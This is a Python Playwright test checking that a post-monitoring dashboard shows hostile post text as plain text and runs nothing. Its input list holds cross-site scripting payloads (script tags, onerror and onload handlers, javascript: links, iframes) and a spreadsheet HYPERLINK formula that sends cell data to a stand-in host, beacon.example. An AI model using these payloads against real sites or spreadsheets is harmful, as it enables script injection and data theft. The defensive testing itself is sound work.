"""What people wrote shows as they wrote it, whatever it is, and makes the page do nothing."""

from __future__ import annotations

from collections.abc import Iterator

import pytest
from playwright.sync_api import Browser, Dialog

from dashboard.pages import all_pages
from monitor.config import load_settings
from monitor.store import Lake
from tests.browser.reading import visit
from tests.browser.serving import serving
from tests.dashboard.homes import SOURCE, posts_of_last_week
from tests.monitor.labelled import label

BEACON = "https://beacon.example"
HOSTILE = (
    f"<img src='{BEACON}/pixel.gif' onerror=alert(1)> <script>alert(2)</script> <b>bold</b>",
    f"**stars** [press here](javascript:alert(3)) ![see]({BEACON}/image.png) :red[colour] $x^2$",
    f"`code` <a href='javascript:alert(4)'>link</a> <iframe src='{BEACON}/frame'></iframe>",
    f'=HYPERLINK("{BEACON}/?x="&A1,"press") +1 -1 @SUM(1)',
    f"\u202ereversed\u202c zero\u200bwidth <svg onload=alert(5)> url({BEACON}/style.css)",
)
# How each of them can be told on the page: as written, without the characters that cannot be seen.
SHOWN = (
    "<script>alert(2)</script> <b>bold</b>",
    "**stars** [press here](javascript:alert(3))",
    "`code` <a href='javascript:alert(4)'>link</a>",
    '=HYPERLINK("',
    "reversed zerowidth <svg onload=alert(5)>",
)


@pytest.fixture(scope="module")
def hostile_dashboard(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    folder = tmp_path_factory.mktemp("hostile")
    posts = posts_of_last_week(HOSTILE * 2)
    with Lake.open(load_settings(folder / "home")) as lake:
        lake.start_run("run", SOURCE.model_copy(update={"title": HOSTILE[0][:150]}))
        lake.append_page(SOURCE.id, posts, {}, "run")
        label(lake, posts, "child-removal", "asserts")
        lake.recount()
    with serving(folder / "home", folder / "log") as address:
        yield address


def test_hostile_posts_are_text_and_nothing_else(browser: Browser, hostile_dashboard: str) -> None:
    dialogs: list[Dialog] = []
    with visit(browser, hostile_dashboard) as visitor:
        visitor.page.on("dialog", lambda dialog: (dialogs.append(dialog), dialog.dismiss()))
        for name in all_pages():
            page = visitor.open(name)
            for fold in page.query_selector_all('[data-testid="stExpander"] summary'):
                fold.click()
            visitor.wait()
            assert page.locator("main a[href^='javascript:'], [onerror], [onload], main iframe").count() == 0
            assert page.locator(f"[src*='{BEACON}'], [href*='{BEACON}']").count() == 0
        visitor.open("myth")
        visitor.page.get_by_role("combobox").nth(1).click()
        visitor.page.get_by_role("option", name="They take your children away").click()
        visitor.wait()
        text = visitor.text()
        assert [one for one in SHOWN if one not in text] == []
        assert "\u202e" not in text
        assert visitor.outside() == []
    assert dialogs == []
